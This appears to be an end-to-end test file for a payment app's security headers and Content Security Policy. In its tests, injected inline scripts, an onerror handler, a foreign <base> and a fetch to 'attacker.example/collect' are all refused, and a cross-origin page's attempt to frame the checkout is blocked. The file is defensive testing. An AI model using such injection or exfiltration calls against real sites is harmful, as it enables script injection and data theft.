import { readFileSync } from 'node:fs'
import { loadEnv } from 'vite'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { renderStaticHostHeaders, securityHeaders } from '../../security/headers'
import { newPage, setUpBrowser } from './support/browser'
import { settleCspReports, takeCspViolations } from './support/cspViolations'
import { startOriginServer, type OriginServer } from './support/originServer'

const e2e = setUpBrowser()

/** What the build was configured with (globalSetup builds with the same environment). */
const env = loadEnv('production', process.cwd(), 'VITE_')
const expected = securityHeaders(env)
/** The checkout's pages and the login: no inline style (issue 22). */
const strict = securityHeaders(env, { strictStyles: true })
const CHECKOUT_PAGES = new Set(['/payment-link?id=demo-crypto', '/process-payment/wc/final-step', '/login'])

const PAGES = ['/', '/payment-link?id=demo-crypto', '/login', '/process-payment/wc/final-step', '/this/does/not/exist']

describe('security headers', () => {
  it.each(PAGES)('%s is served with the policy and the security headers', async (path) => {
    const response = await fetch(`${e2e.baseUrl}${path}`)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toContain('text/html')
    for (const [name, value] of Object.entries(CHECKOUT_PAGES.has(path) ? strict : expected)) expect(response.headers.get(name), name).toBe(value)
  })

  it("the checkout's pages allow no inline style; every other page keeps Emotion's", () => {
    expect(strict['Content-Security-Policy']).toBe(expected['Content-Security-Policy'].replace("style-src 'self' 'unsafe-inline'", "style-src 'self'"))
  })

  it('the policy is the strict one: no inline script, no eval, nothing framed, nothing from elsewhere', () => {
    const directives = Object.fromEntries(expected['Content-Security-Policy'].split('; ').map((directive) => [directive.split(' ')[0], directive.split(' ').slice(1).join(' ')]))
    // The default configuration: the API and the geolocation service are the sandbox, on the app's own origin.
    expect(directives).toEqual({
      'default-src': "'self'",
      'script-src': "'self'",
      'style-src': "'self' 'unsafe-inline'",
      'img-src': "'self' data: blob:",
      'connect-src': "'self'",
      'object-src': "'none'",
      'base-uri': "'none'",
      'form-action': "'self'",
      'frame-ancestors': "'none'",
    })
    expect(expected['Referrer-Policy']).toBe('strict-origin-when-cross-origin')
    expect(expected['X-Content-Type-Options']).toBe('nosniff')
    expect(expected['Permissions-Policy']).toContain('camera=(), ')
    expect(expected['Permissions-Policy']).toContain('microphone=(), ')
    expect(expected['Permissions-Policy']).toContain('geolocation=(), ')
    expect(expected['Permissions-Policy']).toContain('payment=(), ')
  })

  it('a script is served with nosniff, and the build wrote the same headers for static hosts', async () => {
    const colourMode = await fetch(`${e2e.baseUrl}/color-mode.js`)
    expect(colourMode.headers.get('x-content-type-options')).toBe('nosniff')
    expect(readFileSync('dist/_headers', 'utf8')).toBe(renderStaticHostHeaders(expected, strict['Content-Security-Policy']))
    expect(readFileSync('deploy/_headers', 'utf8')).toBe(renderStaticHostHeaders(expected, strict['Content-Security-Policy']))
  })
})

describe('the policy in force', () => {
  it('an injected inline script, an inline event handler, a foreign <base> and a call to another origin are refused and reported', async () => {
    const { page, context } = await newPage(e2e.browser, e2e.baseUrl)
    await page.goto('/payment-link?id=demo-crypto')
    await page.getByRole('heading', { name: 'Crypto demo' }).waitFor()
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script')
      script.textContent = 'window.__injectedScript = true'
      document.body.append(script)
      const image = document.createElement('img')
      image.setAttribute('onerror', 'window.__injectedHandler = true')
      image.src = '/no-such-image.png'
      document.body.append(image)
      await new Promise((resolve) => image.addEventListener('error', resolve, { once: true }))
      const base = document.createElement('base')
      base.href = 'https://attacker.example/'
      document.head.append(base)
      const call = await fetch('https://attacker.example/collect').then(
        () => 'sent',
        () => 'refused',
      )
      const flags = window as unknown as Record<string, unknown>
      return { script: flags.__injectedScript ?? null, handler: flags.__injectedHandler ?? null, baseURI: document.baseURI, call }
    })
    expect(outcome).toEqual({ script: null, handler: null, baseURI: `${e2e.baseUrl}/payment-link?id=demo-crypto`, call: 'refused' })
    await settleCspReports(context)
    expect(takeCspViolations({ expected: true }).map((violation) => [violation.directive, violation.blockedURI])).toEqual([
      ['script-src-elem', 'inline'],
      ['script-src-attr', 'inline'],
      ['base-uri', 'https://attacker.example/'],
      ['connect-src', 'https://attacker.example/collect'],
    ])
    await context.close()
  })

  describe('framing (frame-ancestors)', () => {
    let site: OriginServer
    beforeAll(async () => {
      site = await startOriginServer((path) =>
        path === '/'
          ? {
              contentType: 'text/html; charset=utf-8',
              // The sandbox's JSON carries no frame-ancestors: it shows this page can frame the app's origin at all.
              body: `<!doctype html><title>Another site</title>
<iframe name="checkout" src="${e2e.baseUrl}/payment-link?id=demo-crypto"></iframe>
<iframe name="control" src="${e2e.baseUrl}/sandbox/health"></iframe>`,
            }
          : null,
      )
    })
    afterAll(() => site?.stop())

    it('a page on another origin that frames the checkout gets an empty refusal, not the checkout', async () => {
      const { page, context } = await newPage(e2e.browser, e2e.baseUrl)
      const refusals: string[] = []
      page.on('console', (message) => {
        if (message.type() === 'error' && message.text().includes('frame-ancestors')) refusals.push(message.text().trim())
      })
      const checkoutAnswered = page.waitForResponse((response) => response.url() === `${e2e.baseUrl}/payment-link?id=demo-crypto`)
      await page.goto(site.url)
      const control = page.frame({ name: 'control' })
      await expect.poll(() => control?.evaluate(() => document.body.innerText).catch(() => '')).toContain('"status":"ok"')
      // The server answered the framed request; the browser refused to show it.
      expect((await checkoutAnswered).status()).toBe(200)
      const checkout = page.frame({ name: 'checkout' })
      await expect.poll(() => checkout?.url()).toBe('chrome-error://chromewebdata/')
      expect(await page.frameLocator('iframe[name="checkout"]').getByText('Crypto demo').count()).toBe(0)
      expect(refusals).toEqual([`Framing '${e2e.baseUrl}/' violates the following Content Security Policy directive: "frame-ancestors 'none'". The request has been blocked.`])
      await context.close()
    })
  })
})
